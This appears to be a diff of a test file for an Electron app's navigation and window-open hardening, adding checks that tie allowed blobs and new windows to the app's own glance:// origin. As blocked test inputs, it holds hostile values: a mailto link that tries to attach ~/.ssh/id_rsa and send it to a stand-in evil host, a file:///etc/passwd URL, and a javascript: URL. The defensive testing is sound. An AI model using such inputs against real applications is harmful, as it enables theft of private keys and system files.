@@ -10,12 +10,18 @@ import {
   navigationVerdict,
 } from '../../../electron/main/security.js';
 
-const APP_URL = 'file:///app/dist/renderer/index.html';
+const APP_URL = 'glance://app/index.html';
+const APP_ORIGIN = 'glance://app';
 const isAppPage = (url: string) => url.split('#')[0] === APP_URL;
 
 /** A WebContents as far as the hardening uses it: events plus the window-open handler. */
 class FakeContents extends EventEmitter {
   windowOpenHandler: ((details: { url: string }) => { action: string }) | null = null;
+  /** What the main frame shows; a contents that navigated away is no longer ours. */
+  shownUrl = APP_URL;
+  getURL() {
+    return this.shownUrl;
+  }
   setWindowOpenHandler(handler: (details: { url: string }) => { action: string }) {
     this.windowOpenHandler = handler;
   }
@@ -31,24 +37,28 @@ function setup() {
   const contents = new FakeContents();
   const openExternal = vi.fn(async (_url: string) => {});
   const logger = memoryLogger();
-  hardenWebContents(contents as unknown as WebContents, { isAppPage, openExternal, logger });
+  hardenWebContents(contents as unknown as WebContents, { isAppPage, appOrigin: APP_ORIGIN, openExternal, logger });
   return { contents, openExternal, logger };
 }
 
 describe('navigationVerdict', () => {
   it('lets the main frame (re)load only our page', () => {
-    expect(navigationVerdict(APP_URL, true, isAppPage)).toBe('allow');
-    expect(navigationVerdict('https://example.com/', true, isAppPage)).toBe('block');
-    expect(navigationVerdict('file:///etc/passwd', true, isAppPage)).toBe('block');
-    expect(navigationVerdict('about:blank', true, isAppPage)).toBe('block');
+    expect(navigationVerdict(APP_URL, true, isAppPage, APP_ORIGIN)).toBe('allow');
+    expect(navigationVerdict('https://example.com/', true, isAppPage, APP_ORIGIN)).toBe('block');
+    expect(navigationVerdict('file:///etc/passwd', true, isAppPage, APP_ORIGIN)).toBe('block');
+    expect(navigationVerdict('about:blank', true, isAppPage, APP_ORIGIN)).toBe('block');
   });
 
   it('lets sub frames show only the reader’s srcdoc/blank/blob documents', () => {
-    expect(navigationVerdict('about:srcdoc', false, isAppPage)).toBe('allow');
-    expect(navigationVerdict('about:blank', false, isAppPage)).toBe('allow');
-    expect(navigationVerdict('blob:file:///3b9e…', false, isAppPage)).toBe('allow');
-    expect(navigationVerdict('https://phish.example.com/', false, isAppPage)).toBe('block');
-    expect(navigationVerdict('javascript:alert(1)', false, isAppPage)).toBe('block');
+    expect(navigationVerdict('about:srcdoc', false, isAppPage, APP_ORIGIN)).toBe('allow');
+    expect(navigationVerdict('about:blank', false, isAppPage, APP_ORIGIN)).toBe('allow');
+    expect(navigationVerdict('blob:glance://app/3b9e…', false, isAppPage, APP_ORIGIN)).toBe('allow');
+    // A blob another origin made (a compromised frame of another page) is not the reader's.
+    expect(navigationVerdict('blob:https://evil.example.com/3b9e…', false, isAppPage, APP_ORIGIN)).toBe('block');
+    expect(navigationVerdict('blob:glance://app.evil/3b9e…', false, isAppPage, APP_ORIGIN)).toBe('block');
+    expect(navigationVerdict('blob:null/3b9e…', false, isAppPage, APP_ORIGIN)).toBe('block');
+    expect(navigationVerdict('https://phish.example.com/', false, isAppPage, APP_ORIGIN)).toBe('block');
+    expect(navigationVerdict('javascript:alert(1)', false, isAppPage, APP_ORIGIN)).toBe('block');
   });
 });
 
@@ -78,6 +88,16 @@ describe('hardenWebContents', () => {
     expect(contents.windowOpenHandler?.({ url: 'smb://server/share' })).toEqual({ action: 'deny' });
     expect(openExternal.mock.calls.map(([url]) => url)).toEqual(['https://example.com/a', 'mailto:sam@example.com']);
   });
+
+  it('opens nothing for a contents that does not show our page', () => {
+    const { contents, openExternal, logger } = setup();
+    for (const shown of ['https://evil.example.com/', 'file:///tmp/evil.html', 'glance://evil/index.html']) {
+      contents.shownUrl = shown;
+      expect(contents.windowOpenHandler?.({ url: 'https://example.com/a' })).toEqual({ action: 'deny' });
+    }
+    expect(openExternal).not.toHaveBeenCalled();
+    expect(logger.lines.join('\n')).toContain('Blocked a new window from a page that is not Glance');
+  });
 });
 
 describe('handleWindowOpen', () => {
@@ -85,6 +105,7 @@ describe('handleWindowOpen', () => {
     const openExternal = vi.fn(async (_url: string) => {});
     const verdict = handleWindowOpen('mailto:x@evil.example?attach=~/.ssh/id_rsa&subject=Hi', {
       isAppPage,
+      appOrigin: APP_ORIGIN,
       openExternal,
       logger: memoryLogger(),
     });
@@ -97,7 +118,7 @@ describe('handleWindowOpen', () => {
     const openExternal = vi.fn(async () => {
       throw new Error('no browser');
     });
-    handleWindowOpen('https://example.com/secret-path', { isAppPage, openExternal, logger });
+    handleWindowOpen('https://example.com/secret-path', { isAppPage, appOrigin: APP_ORIGIN, openExternal, logger });
     await vi.waitFor(() => expect(logger.lines.join('\n')).toContain('Could not open a link'));
     expect(logger.lines.join('\n')).not.toContain('secret-path');
   });
